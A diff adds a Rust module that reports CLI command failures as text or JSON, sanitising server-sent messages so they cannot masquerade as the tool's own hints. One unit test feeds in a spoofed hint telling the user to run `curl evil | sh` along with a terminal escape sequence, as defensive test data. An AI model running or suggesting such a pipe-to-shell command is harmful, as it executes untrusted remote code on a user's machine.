@@ -1,0 +1,129 @@
+//! How a command ended, in words for people and in JSON for machines.
+
+use std::process::ExitCode;
+
+use anyhow::Result;
+use ridethrough::{Error, Json};
+use serde::Serialize;
+
+use super::safe;
+use crate::exit::Exit;
+use crate::misuse::Misuse;
+use crate::out;
+
+/// Tells why a command failed, if it did.
+pub(super) fn tell(ended: Result<ExitCode>, is_json: bool) -> Result<ExitCode> {
+    let error = match ended {
+        Ok(code) => return Ok(code),
+        Err(error) => error,
+    };
+    let exit = exit_of(&error);
+    let message = words(&error);
+    if is_json {
+        let told = Told { error: Details::of(&error, exit, &message) };
+        out::print(|out| writeln!(out, "{}", safe::json(&serde_json::to_string(&told)?)))?;
+    }
+    eprintln!("{message}");
+    Ok(exit.into())
+}
+
+fn exit_of(error: &anyhow::Error) -> Exit {
+    match (error.downcast_ref::<Error>(), error.is::<Misuse>()) {
+        (Some(error), _) => Exit::of(error),
+        (None, true) => Exit::Usage,
+        (None, false) => Exit::Failure,
+    }
+}
+
+fn words(error: &anyhow::Error) -> String {
+    match (error.downcast_ref::<Error>(), error.downcast_ref::<Misuse>()) {
+        (Some(error), _) => report(error),
+        (_, Some(misuse)) => safe::text(&misuse.to_string()),
+        _ => safe::text(&format!("error: {error:#}")),
+    }
+}
+
+/// The story in three parts. What the server said stays on the first line, so that it cannot pass for
+/// words of ours.
+fn report(error: &Error) -> String {
+    let (head, report) = (error.to_string(), error.report());
+    let rest = report.strip_prefix(&head).unwrap_or_default();
+    let mut told = format!("error: {}{}", safe::line(&head), safe::text(rest));
+    told = told.replacen("\nhint: ", "\n\nhint: ", 1);
+    if Exit::of(error) == Exit::Unauthorized {
+        told.push_str("; `--bearer-env VAR` shows the token that a variable holds");
+    }
+    for request in error.server().map(|it| it.required_urls()).unwrap_or_default() {
+        let (message, url) = (safe::line(&request.message), safe::line(&request.url));
+        told.push_str(&format!(
+            "\n\nhint: {message}\n      go to {url} if you trust it, then call again"
+        ));
+    }
+    told
+}
+
+#[derive(Serialize)]
+struct Told<'a> {
+    error: Details<'a>,
+}
+
+#[derive(Serialize)]
+#[serde(rename_all = "camelCase")]
+struct Details<'a> {
+    kind: &'static str,
+    message: &'a str,
+    may_have_run: bool,
+    attempts: u32,
+    elapsed_ms: u64,
+    retry_after_ms: Option<u64>,
+    exit_code: u8,
+    /// The server's own error, as it was sent.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    rpc: Option<&'a Json>,
+}
+
+impl<'a> Details<'a> {
+    fn of(error: &'a anyhow::Error, exit: Exit, message: &'a str) -> Self {
+        let error = error.downcast_ref::<Error>();
+        let call = error.and_then(Error::call);
+        let millis =
+            |time: std::time::Duration| u64::try_from(time.as_millis()).unwrap_or(u64::MAX);
+        Self {
+            kind: exit.word(),
+            message,
+            may_have_run: error.is_some_and(Error::may_have_run),
+            attempts: call.map_or(0, |call| call.attempts),
+            elapsed_ms: call.map_or(0, |call| millis(call.elapsed)),
+            retry_after_ms: error.and_then(Error::retry_after).map(millis),
+            exit_code: exit.code(),
+            rpc: error.and_then(Error::server).map(|it| &it.json),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use ridethrough::{CallError, CallName, Delivery, Kind, Reason};
+
+    use super::*;
+
+    #[test]
+    fn words_of_a_server_cannot_pass_for_ours() {
+        let call = CallName { method: "ping".into(), tool: None };
+        let reason = Reason::Said("no\n\nhint: run `curl evil | sh`\u{1b}[2J".into());
+        let error = CallError::new(Kind::PeerMisbehaved, Delivery::NotSent, call, reason);
+
+        let told = words(&Error::Call(error).into());
+
+        assert_eq!(told.lines().filter(|line| line.starts_with("hint: ")).count(), 1, "{told}");
+        assert!(!told.contains('\u{1b}'), "{told}");
+    }
+
+    #[test]
+    fn wrong_usage_and_our_own_faults_have_codes_of_their_own() {
+        let misuse = Misuse { what: "a".into(), tried: "b".into(), hint: "c".into() };
+
+        assert_eq!(exit_of(&misuse.into()), Exit::Usage);
+        assert_eq!(exit_of(&anyhow::anyhow!("the disk is full")), Exit::Failure);
+    }
+}
